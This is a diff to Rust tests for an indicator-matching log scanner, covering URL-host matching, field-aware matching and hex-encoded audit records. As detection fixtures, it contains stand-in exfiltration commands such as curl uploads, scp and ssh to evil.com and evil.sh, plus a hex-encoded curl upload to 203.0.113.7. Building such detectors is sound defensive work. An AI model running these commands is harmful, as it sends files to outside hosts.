@@ -35,14 +35,30 @@ fn urls_with_escapes_are_read_once() {
     }
     for text in [
         r#"{"u":"http:\/\/evil.example\/a.bin?x=1\u0026y=3"}"#,
-        r#"{"u":"http:\/\/evil.example\/b\/a.bin?x=1&y=2"}"#,
+        r#"{"u":"http:\/\/evil.example\/"}"#,
         r#"{"u":"https:\/\/evil.example\/a.bin?x=1&y=2"}"#,
         "u=http%3A%2F%2Fevil.example%2Fa.bin%3Fx%3D1&y=2",
-        "u=http%3A%2F%2Fevil.example%252Fa.bin%3Fx%3D1%26y%3D2",
         "http://evil.example:8080/a.bin?x=1&y=2",
     ] {
         let words = words(list, text);
         assert!(words.len() == 1 && words[0].starts_with("UrlHost"), "{text}: {words:?}");
+    }
+    // Another page of the host is no sign of the listed one.
+    for text in [
+        r#"{"u":"http:\/\/evil.example\/b\/a.bin?x=1&y=2"}"#,
+        "u=http%3A%2F%2Fevil.example%2Fb%3Fx%3D1",
+        "GET http://evil.example:8080/b HTTP/1.1",
+        "see (http://evil.example/b).",
+    ] {
+        assert!(!meets(list, text), "{text}");
+    }
+    assert!(
+        words("http://evil.example/", "GET http://evil.example/b ")[0].starts_with("UrlHost"),
+        "all of it is listed"
+    );
+    for text in ["<Data>http://evil.example/a.bin?x=1&amp;y=2</Data>", r"request=http://evil.example/a.bin?x\=1&y\=2 x"]
+    {
+        assert!(words(list, text)[0].starts_with("Exact"), "{text}");
     }
     for text in ["/var//evil.example/a.bin?x=1&y=2", r"\/var\/evil.example\/a.bin", "%2Fvar%2Fevil.example%2Fa.bin"] {
         assert!(!meets(list, text), "{text}");
@@ -221,6 +237,37 @@ fn names_in_paths_are_files_and_behind_slashes_hosts() {
     for text in ["/tmp/evil.zip", r"\/tmp\/evil.zip", "%2Ftmp%2Fevil.zip", r"C:\tmp\evil.zip", r#""C:\\tmp\\evil.zip""#]
     {
         assert!(!means("evil.zip", None, text), "{text}");
+    }
+}
+
+#[test]
+fn names_of_hosts_in_commands_and_names_of_files_in_fields_of_files() {
+    let command = Some("process.command_line");
+    for (list, field, text) in [
+        ("evil.com", command, "curl -T a https://drop.evil.com/up"),
+        ("evil.com", command, "curl -T a evil.com"),
+        ("evil.com", command, "ssh root@evil.com"),
+        ("evil.sh", command, "scp a b@evil.sh:/tmp"),
+        ("evil.sh", command, "curl evil.sh/up"),
+        ("evil.com", Some("requestObject.spec.containers.image"), r#""image":"evil.com\/tool:1""#),
+        ("evil.com", Some("FileOriginUrl"), "https://evil.com/a.iso"),
+        ("evil.com", Some("profile"), "evil.com"),
+        ("evil.sh", Some("dns.question.name"), "evil.sh"),
+    ] {
+        assert!(means(list, field, text), "{field:?} {text}");
+    }
+    for (list, field, text) in [
+        ("evil.com", command, r"C:\tmp\evil.com /c dir"),
+        ("evil.sh", command, "bash evil.sh"),
+        ("evil.com", Some("process.name"), "evil.com"),
+        ("evil.com", Some("TargetFilename"), "evil.com"),
+        ("evil.zip", Some("FilePaths"), "evil.zip"),
+    ] {
+        assert!(!means(list, field, text), "{field:?} {text}");
+    }
+    assert!(means("203.0.113.4", Some("conversion_ip"), "203.0.113.4"));
+    for field in ["cs(User-Agent)", "userAgent", "http_user_agent", "fileVersion", "app_version", "useragent"] {
+        assert!(!means("203.0.113.4", Some(field), "203.0.113.4"), "{field}");
     }
 }
 
@@ -407,7 +454,10 @@ fn split_urls_and_user_agents_of_every_format_are_whole_on_every_grid() {
     let mut expected = Met::new();
     for (name, ..) in LOGS.iter().chain(PARTS) {
         expected.insert((format!("logs/{name}"), "url".into(), "exact".into()), 20);
-        expected.insert((format!("logs/{name}"), "url".into(), "url_host".into()), 180);
+        // The others name another page of the host.
+        if !matches!(*name, "vhost.log" | "nginx.json") {
+            expected.insert((format!("logs/{name}"), "url".into(), "url_host".into()), 180);
+        }
     }
     for (name, ..) in LOGS.iter().chain(BARE).chain(SPELLED) {
         expected.insert((format!("logs/{name}"), "user_agent".into(), "exact".into()), 20);
@@ -415,5 +465,54 @@ fn split_urls_and_user_agents_of_every_format_are_whole_on_every_grid() {
     assert_eq!(met, expected);
     for (cell_bytes, threads) in [("4096", "2"), ("10000", "3")] {
         assert_eq!(scanned(cell_bytes, threads).1, findings, "cells of {cell_bytes} bytes");
+    }
+}
+
+/// Logs whose fields say an address or a name that their bytes do not show, each in one record.
+const HIDDEN: &[(&str, &str)] = &[
+    (
+        "audit.log",
+        "type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C002D5400612E7A697000687474703A2F2F3230332E302E3131332E37\n\
+         type=EXECVE msg=audit(1774692001.120:2): argc=2 a0=\"echo\" a1=\"203.0.113.8\"\n",
+    ),
+    (
+        "syslog.log",
+        "Mar 28 10:00:00 h audispd: type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C003230332E302E3131332E37\n\
+         Mar 28 10:00:01 h cron[1]: run\n",
+    ),
+    (
+        "capture.txt",
+        "2026-03-28 10:00:00.000001 IP 10.0.0.5.51000 > 203.0.113.7.443: Flags [P.], seq 1:9, ack 1, win 64, length 8\n\
+         2026-03-28 10:00:00.000002 IP 10.0.0.5.51000 > 203.0.113.70.443: Flags [P.], seq 1:9, ack 1, win 64, length 8\n",
+    ),
+    (
+        "dns.log",
+        "3/28/2026 10:00:01 AM 0A1C PACKET  00000000D1B01120 UDP Rcv 10.0.0.5        0001   Q [0001   D   NOERROR] A      (3)www(4)evil(7)example(0)\n\
+         3/28/2026 10:00:02 AM 0A1C PACKET  00000000D1B01120 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (3)www(7)example(0)\n",
+    ),
+];
+
+#[test]
+fn what_fields_say_and_bytes_do_not_show_is_met_once() {
+    for more in [&[][..], &["--hits-only"][..]] {
+        let temp = tempfile::tempdir().unwrap();
+        let path = |name: &str| temp.path().join(name).to_str().unwrap().to_owned();
+        std::fs::create_dir(path("logs")).unwrap();
+        for (name, text) in HIDDEN {
+            std::fs::write(path(&format!("logs/{name}")), text).unwrap();
+        }
+        std::fs::write(path("feed.txt"), "203.0.113.7\nevil.example\n").unwrap();
+        let (logs, feed, case) = (path("logs"), path("feed.txt"), path("case"));
+        let args = ["scan", "-q", &logs, "--no-builtin", "--indicators", &feed, "--out", &case];
+        let output = exfiltrace(&[&args[..], more].concat());
+        assert!(output.status.code().is_some_and(|code| code < 2), "{}", String::from_utf8_lossy(&output.stderr));
+        let mut met = BTreeMap::new();
+        for line in std::fs::read_to_string(path("case/findings.jsonl")).unwrap().lines() {
+            let finding: serde_json::Value = serde_json::from_str(line).unwrap();
+            let text = |pointer: &str| finding.pointer(pointer).and_then(|v| v.as_str()).unwrap_or("").to_owned();
+            assert_eq!(met.insert(text("/evidence/0/source"), finding["count"].as_u64()), None, "{line}");
+        }
+        let expected = HIDDEN.iter().map(|(name, _)| (format!("logs/{name}"), Some(1)));
+        assert_eq!(met, expected.collect(), "{more:?}");
     }
 }
